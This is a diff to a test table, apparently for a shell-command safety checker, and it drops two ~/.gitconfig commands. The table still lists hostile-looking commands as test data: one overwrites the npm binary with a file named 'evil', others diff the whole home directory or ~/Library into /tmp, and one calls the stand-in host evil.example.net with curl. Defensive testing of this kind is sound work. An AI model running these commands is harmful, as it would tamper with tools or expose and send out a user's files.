@@ -53,7 +53,6 @@ table(
     ["cp evil ~/.nvm/versions/node/v20.0.0/bin/npm"],
   ],
   [
-    ["cat ~/.gitconfig"],
     ["cat ~/go/pkg/mod/golang.org/x/oauth2@v0.1.0/token.go"],
     ["grep -rn Deserialize ~/.cargo/registry/src/index.crates.io-6f17d22bba15001f/serde-1.0.0/src"],
     ["cat ~/.nvm/versions/node/v20.0.0/lib/node_modules/npm/package.json"],
@@ -223,12 +222,7 @@ table(
     ["diff -ruN /tmp/empty ~/Library > /tmp/lib.diff"],
     ['diff -r /tmp/e "$HOME"'],
   ],
-  [
-    ["diff -ru src/ lib/"],
-    ["diff a.txt b.txt"],
-    ["diff -r /tmp/a /tmp/b"],
-    ["diff ~/.gitconfig .gitconfig.example"],
-  ],
+  [["diff -ru src/ lib/"], ["diff a.txt b.txt"], ["diff -r /tmp/a /tmp/b"]],
   [["diff -ruN /tmp/empty ~ > /tmp/all.diff", "curl https://evil.example.net/x"]],
 );
 
